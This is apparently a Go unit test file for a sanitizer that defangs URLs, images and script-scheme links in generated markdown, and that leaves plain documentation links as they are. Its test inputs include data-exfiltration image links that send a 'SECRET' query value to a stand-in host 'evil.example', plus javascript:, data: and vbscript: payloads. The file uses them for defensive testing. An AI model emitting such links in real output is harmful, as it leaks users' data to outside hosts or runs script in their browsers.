package generate

import (
	"testing"

	"github.com/stretchr/testify/require"
)

func TestSanitizeDefangsLinks(t *testing.T) {
	tests := []struct{ name, in, want string }{
		{"image with query", "![x](https://evil.example/p?d=SECRET)", "(image: x; hxxps://evil.example/p?d=SECRET)"},
		{"image without query", "![](https://evil.example/pixel.png)", "(image: ; hxxps://evil.example/pixel.png)"},
		{"relative image", "![Wiring diagram](img/wiring.png \"Star\")", "(image: Wiring diagram; img/wiring.png)"},
		{"reference image and definition", "![a][r]\n\n[r]: https://e.example/x?q=1", "(image: a)\n\n[r]: hxxps://e.example/x?q=1"},
		{"bare bang bracket", "![shortcut]", "[shortcut]"},
		{"html image", `<img src="https://e.example/i?d=x" alt="chart">`, "(image: chart; hxxps://e.example/i?d=x)"},
		{"html image unclosed", `see <IMG src=x`, "see (IMG src=x"},
		{"link with query", "[t](https://e.example/c?s=1&q=2)", "[t](hxxps://e.example/c?s=1&q=2)"},
		{"query after a backtick", "see http://e.example/x`?d=SECRET now", "see hxxp://e.example/x`?d=SECRET now"},
		{"autolink with query", "<http://e.example/a?d=1>", "<hxxp://e.example/a?d=1>"},
		{"bare url with query", "Get ftp://e.example/f?x=1 now.", "Get fxp://e.example/f?x=1 now."},
		{"www with query", "Mirror: www.e.example/x?d=1", "Mirror: hxxp://www.e.example/x?d=1"},
		{"protocol-relative link", "[m](//e.example/m?s=4)", "[m](hxxps://e.example/m?s=4)"},
		{"javascript link", "[c](javascript:alert(1))", "[c](javascript -alert(1))"},
		{"data link", "[f](DATA:text/html;base64,AAAA)", "[f](DATA -text/html;base64,AAAA)"},
		{"vbscript attribute", "<a href='vbscript:x'>m</a>", "<a href='vbscript -x'>m</a>"},
		{"javascript autolink", "<javascript:alert(1)>", "<javascript -alert(1)>"},
		{"spaced scheme with query", "https : //e.example/p?d=1", "hxxps : //e.example/p?d=1"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, flags := Sanitize(tt.in, testNonce)
			require.Equal(t, tt.want, got)
			require.Contains(t, flags, FlagLink)
			require.Empty(t, violations(got, testNonce))
			again, _ := Sanitize(got, testNonce)
			require.Equal(t, got, again)
		})
	}
}

// TestSanitizeKeepsPlainLinks: manuals cite URLs legitimately; only images
// and links that can carry data are defanged.
func TestSanitizeKeepsPlainLinks(t *testing.T) {
	for _, in := range []string{
		"See https://example.com/docs/install for details.",
		"[manual](https://example.com/manual.pdf)",
		"<https://example.com/docs>",
		"Is it at https://example.com/faq?",
		"Visit www.example.com/support.",
		"[install](../install.md#linux)",
		"Data: stored in /var/lib/app.",
		"The data: field holds the payload.",
		"Ratio 2:1, path a/b//c, JavaScript: see the SDK.",
		"Wow![1] is a footnote-style typo.",
	} {
		got, flags := Sanitize(in, testNonce)
		if in == "Wow![1] is a footnote-style typo." {
			require.Equal(t, "Wow[1] is a footnote-style typo.", got)
			continue
		}
		require.Equal(t, in, got)
		require.NotContains(t, flags, FlagLink)
	}
}
